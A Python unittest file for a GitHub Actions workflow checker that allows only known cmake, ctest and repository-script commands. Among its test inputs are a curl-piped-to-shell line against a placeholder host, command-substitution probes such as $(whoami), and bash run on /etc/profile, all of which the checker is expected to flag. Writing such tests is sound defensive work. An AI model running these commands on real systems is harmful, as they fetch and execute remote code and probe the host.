#!/usr/bin/env python3
"""Tests of scripts/check_workflow.py: what it lets through and what it finds.

    python3 tests/workflow/check_workflow_test.py
"""
import json
import os
import sys
import unittest

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.dont_write_bytecode = True  # no __pycache__ in scripts/
sys.path.insert(0, os.path.join(ROOT, "scripts"))
import check_workflow  # noqa: E402 (from scripts/)

with open(os.path.join(ROOT, "CMakePresets.json"), encoding="utf-8") as f:
    PRESETS = json.load(f)

# A job over both Windows presets; RUN is the script of its last step.
TEMPLATE = """
on: [push, pull_request]
jobs:
  build:
    runs-on: windows-latest
    strategy:
      matrix:
        include:
          - {preset: windows-x64, arch: win64}
          - {preset: windows-x86, arch: win32}
    steps:
      - uses: USES
      - run: cmake --preset ${{ matrix.preset }}
      - run: |
RUN
"""


def workflow(run, uses="actions/checkout@v4"):
    script = "\n".join("          " + line for line in run.splitlines())
    return TEMPLATE.replace("USES", uses).replace("RUN", script)


def findings(text):
    return check_workflow.check(text, PRESETS, ROOT)


class CheckWorkflowTest(unittest.TestCase):
    def expect_findings(self, text, expected):
        """Each of expected is in some finding; none expected: there are none."""
        found = findings(text)
        if not expected:
            self.assertEqual([], found)
        for wanted in expected:
            self.assertTrue(any(wanted in f for f in found), f"{wanted!r} not in {found}")

    def test_commands(self):
        # (script of the last step, substrings of the findings expected; none: it passes)
        cases = [
            ("cmake --build --preset ${{ matrix.preset }}\nctest --preset ${{ matrix.preset }}", []),
            ("cmake \\\n  --build --preset ${{ matrix.preset }}", []),
            ("FOO=1 ctest --preset ${{ matrix.preset }} --output-junit x.xml >log.txt 2>&1", []),
            ("bash scripts/package-windows.sh ${{ matrix.arch }} build/${{ matrix.preset }}", []),
            ("scripts/package-windows.sh win64 build/windows-x64 && cmake -E make_directory x", []),
            ("curl -sSL https://example.invalid/x | sh", ["unknown command 'curl'", "unknown command 'sh'"]),
            ("cmake -E true; wget x", ["unknown command 'wget'"]),
            ("bash -c 'cmake --version'", ["bash may only run a file of the repository"]),
            ("bash scripts/no-such-script.sh", ["bash scripts/no-such-script.sh: no such file"]),
            ("bash ../outside.sh", ["bash ../outside.sh: no such file"]),
            ("bash /etc/profile", ["bash /etc/profile: no such file"]),
            ("scripts/missing.sh", ["unknown command 'scripts/missing.sh'"]),
            ("cmake -E echo $(whoami)", ["command substitution"]),
            ("cmake -E echo `whoami`", ["command substitution"]),
            ("if true; then cmake -E true; fi", ["'if': shell syntax", "'fi': shell syntax"]),
            ("( cmake -E true )", ["'(': shell syntax"]),
            ("cmake -E echo 'unclosed", ["cannot be split into words"]),
            ("${{ inputs.tool }} --version", ["unknown command '__expression__'"]),
        ]
        for run, expected in cases:
            with self.subTest(run=run):
                self.expect_findings(workflow(run), expected)

    def test_presets(self):
        cases = [
            ("cmake --preset windows-x65", ["no configure preset 'windows-x65'"]),
            ("cmake --build --preset=nonesuch", ["no build preset 'nonesuch'"]),
            ("ctest --preset", ["--preset without a name"]),
            ("ctest --preset win32", ["no test preset 'win32'"]),
            # Configured and tested presets must be the job's own, and native.
            ("ctest --preset native", ["needs configure preset 'native'"]),
            ("cmake --preset win64", ["'win64' has the toolchain file"]),
            ("cmake --preset ${{ matrix.arch }}", ["(preset=windows-x64, arch=win64)",
                                                   "'win64' has the toolchain file",
                                                   "'win32' has the toolchain file"]),
        ]
        for run, expected in cases:
            with self.subTest(run=run):
                self.expect_findings(workflow(run), expected)

    def test_workflow_shape(self):
        cases = [
            (workflow("cmake -E true", uses="actions/checkout@main"), ["not pinned to a major version tag"]),
            (workflow("cmake -E true", uses="msys2/setup-msys2@v2"), []),
            (workflow("cmake -E true").replace("[push, pull_request]", "[push]"), ["does not run on pull_request"]),
            ("on: [push, pull_request]\njobs: {}\n", ["has no jobs"]),
            ("on: [push, pull_request]\njobs:\n  a:\n    runs-on: windows-latest\n", ["job a: no steps"]),
            (workflow("cmake -E true").replace("include:", "include: ${{ fromJSON(x) }}\n        other:"),
             ["a matrix this check cannot expand"]),
        ]
        for text, expected in cases:
            with self.subTest(expected=expected):
                self.expect_findings(text, expected)

    def test_unreadable_workflows(self):
        for text in ["on: [push\njobs:", "- just\n- a list\n", "jobs:\n  a: [\n"]:
            with self.subTest(text=text):
                with self.assertRaises(check_workflow.WorkflowError):
                    findings(text)


if __name__ == "__main__":
    unittest.main(verbosity=1)
